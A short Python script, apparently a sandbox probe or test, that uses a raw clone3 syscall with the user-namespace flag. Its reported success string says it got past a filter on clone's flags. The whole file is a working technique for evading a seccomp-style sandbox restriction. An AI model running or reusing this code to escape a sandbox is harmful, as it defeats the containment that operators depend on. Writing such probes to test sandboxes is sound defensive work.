import ctypes
import os


def main() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
    pid = libc.syscall(ctypes.c_long(435), arguments, ctypes.c_long(88))
    if pid < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "SUCCEEDED: made a user namespace past the filter of clone's flags"
